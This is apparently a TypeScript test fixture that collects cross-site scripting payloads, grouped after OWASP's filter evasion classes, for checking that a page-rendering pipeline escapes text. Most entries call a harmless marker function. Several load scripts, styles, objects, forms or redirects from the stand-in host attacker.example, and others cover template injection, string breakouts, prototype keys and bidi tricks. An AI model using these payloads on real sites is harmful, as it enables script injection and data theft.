/*
 * What attackers put into texts that become pages. Each calls `__ran` with its mark, opens a dialog, asks for an address
 * or changes the title. Collected after the classes of OWASP's XSS Filter Evasion Cheat Sheet, written for these tests.
 */

const call = (mark: string): string => `__ran('${mark}')`;

/** By mark. Those of `LIVE` run where they stand as markup in the body of a page. */
const LIVE: Readonly<Record<string, string>> = {
  script: `<script>${call('script')}</script>`,
  'script-case': `<ScRiPt >${call('script-case')}</sCrIpT>`,
  'script-source': '<script src="https://attacker.example/script.js"></script>',
  'script-end': `</script><script>${call('script-end')}</script>`,
  'style-end': `</style><script>${call('style-end')}</script>`,
  'title-end': `</title><script>${call('title-end')}</script>`,
  'textarea-end': `</textarea><script>${call('textarea-end')}</script>`,
  'comment-end': `--><script>${call('comment-end')}</script>`,
  'cdata-end': `]]><script>${call('cdata-end')}</script>`,
  'attribute-end': `"><img src=x: onerror="${call('attribute-end')}">`,
  'attribute-end-single': `'><img src=x: onerror="${call('attribute-end-single')}">`,
  image: `<img src=x: onerror="${call('image')}">`,
  'image-slash': `<img/src=x:/onerror=${call('image-slash')}>`,
  'image-beacon': '<img src="https://attacker.example/image.png">',
  'svg-load': `<svg onload="${call('svg-load')}"></svg>`,
  'svg-script': `<svg><script>${call('svg-script')}</script></svg>`,
  details: `<details open ontoggle="${call('details')}"><summary>x</summary></details>`,
  'video-source': `<video><source onerror="${call('video-source')}"></video>`,
  focus: `<input autofocus onfocus="${call('focus')}">`,
  frame: `<iframe src="javascript:parent.${call('frame')}"></iframe>`,
  'frame-document': `<iframe srcdoc="<script>parent.${call('frame-document')}</script>"></iframe>`,
  object: '<object data="https://attacker.example/object.html"></object>',
  stylesheet: '<link rel="stylesheet" href="https://attacker.example/style.css">',
  'style-import': '<style>@import "https://attacker.example/import.css";</style>',
  'style-url': '<div style="background:url(https://attacker.example/url.png)">x</div>',
  mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${call('mutation')}&gt;"><img src=x: onerror="${call('mutation')}">`,
  dialog: `<img src=x: onerror="alert('dialog')">`,
  title: `<img src=x: onerror="document.title='taken'; ${call('title')}">`,
};

/** Those that run only where a page is careless in another way: in links, templates, attributes, scripts, prototypes. */
const QUIET: Readonly<Record<string, string>> = {
  link: `javascript:${call('link')}`,
  'link-case': `JaVaScRiPt:${call('link-case')}`,
  'link-tab': `java\tscript:${call('link-tab')}`,
  'link-entity': `&#106;avascript:${call('link-entity')}`,
  'link-data': `data:text/html,<script>${call('link-data')}</script>`,
  anchor: `<a href="javascript:${call('anchor')}">打开</a>`,
  base: '<base href="https://attacker.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh">',
  form: '<form action="https://attacker.example/form"><button>x</button></form>',
  entities: `&lt;script&gt;${call('entities')}&lt;/script&gt;`,
  'entities-numeric': `&#60;script&#62;${call('entities-numeric')}&#60;/script&#62;`,
  'comment-start': '<!--<script>',
  cdata: '<![CDATA[',
  'template-braces': `{{constructor.constructor("${call('template-braces')}")()}}`,
  'template-dollar': `\${${call('template-dollar')}}`,
  'template-percent': `<%= ${call('template-percent')} %>`,
  replacement: "$& $` $' $1 $<name>",
  expression: `x:expression(${call('expression')})`,
  'string-end': `");${call('string-end')};//`,
  'string-end-single': `\\');${call('string-end-single')};//`,
  'line-separators': `\u2028${call('line-separators')}\u2029`,
  prototype: '__proto__',
  constructor: 'constructor',
  'own-property': 'hasOwnProperty',
  'to-string': 'toString',
  thenable: 'then',
  'id-index': 'gongwen-index',
  bidi: '\u202E\u2066目标\u2069txt.exe\u202C',
  'zero-width': '教\u200B育\u200D局\uFEFF\u00AD',
  'lone-surrogate': '书\uD83D屋',
};

export const PAYLOADS: readonly (readonly [mark: string, payload: string])[] = Object.entries({ ...LIVE, ...QUIET });
export const LIVE_PAYLOADS = Object.entries(LIVE);
